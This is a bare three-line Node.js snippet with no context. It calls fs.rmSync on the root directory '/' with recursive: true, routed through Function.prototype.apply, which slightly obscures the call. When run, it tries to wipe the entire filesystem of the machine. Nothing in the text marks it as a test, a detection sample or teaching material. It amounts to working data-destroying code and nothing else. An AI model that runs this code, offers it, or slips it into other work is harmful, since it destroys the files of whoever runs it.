const fs = require('fs');
const args = ['/', { recursive: true }];
fs.rmSync.apply(fs, args);
